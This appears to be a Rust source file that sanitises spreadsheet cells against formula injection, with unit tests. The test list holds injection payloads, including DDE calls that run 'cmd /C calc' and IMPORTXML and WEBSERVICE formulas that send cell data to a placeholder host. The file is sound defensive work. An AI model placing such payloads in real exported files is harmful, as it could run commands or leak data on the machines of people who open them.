//! A cell of a table that a spreadsheet will open. What begins like a formula is one there, so a lead that says
//! `=HYPERLINK(…)` would act in the name of whoever opens the table: it gets an apostrophe in front, which makes it text.

use leadform_spec::value::text::is_mark;

/// What begins a formula, also in full-width forms, or stands in front of one.
const BEGINS: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

/// More that some spreadsheets read as an equals or a minus sign.
const ALIKE: [char; 5] = ['﹦', '﹢', '﹣', '﹫', '\u{2212}'];

/// The text as a cell.
pub(super) fn safe(text: &str) -> String {
    let is_begin = |char: char| BEGINS.contains(&char) || ALIKE.contains(&char);
    // White space and invisible marks in front are taken away by some programs.
    let first = text
        .chars()
        .find(|char| is_begin(*char) || !(char.is_whitespace() || is_mark(*char) || *char == '\0'));
    // A NUL ends the text for some.
    let text = text.replace('\0', "");
    if first.is_some_and(is_begin) { format!("'{text}") } else { text }
}

#[cfg(test)]
mod tests {
    use super::safe;

    #[test]
    fn no_cell_begins_a_formula() {
        let hostile = [
            "=1+1",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://x\",\"y\")",
            "+1+1",
            "+84912345678",
            "-1+1",
            "-5",
            "@SUM(1+1)",
            "@",
            "=",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\r\n=1",
            " =1+1",
            "   +1",
            "\u{a0}=1",
            "\u{3000}=1",
            "\u{feff}=1",
            "\u{200b}=1",
            "\u{202e}=1",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(1)",
            "﹦1",
            "﹣1",
            "\u{2212}1",
            "=DDE(\"cmd\";\"/C calc\";\"x\")",
            "=IMPORTXML(CONCAT(\"http://x/?v=\",A1),\"//a\")",
            "@=1",
            "\0=1",
            "-2+3+cmd|' /C calc'!A0",
            "=1+1\";=1+1",
            "\t",
            "\rx",
            "+",
            " @x",
            "=WEBSERVICE(\"http://x\")",
        ];
        assert!(hostile.len() >= 30);
        for text in hostile {
            let cell = safe(text);
            assert_eq!(cell, format!("'{}", text.replace('\0', "")), "{text:?}");
        }
    }

    #[test]
    fn what_is_no_formula_stays_as_it_is() {
        for text in
            ["", "An", "0912345678", "a=b", "1-2", "'=1", "an@example.vn", "Nguyễn Văn Ân", " An", "a\r\nb"]
        {
            assert_eq!(safe(text), text);
        }
    }
}
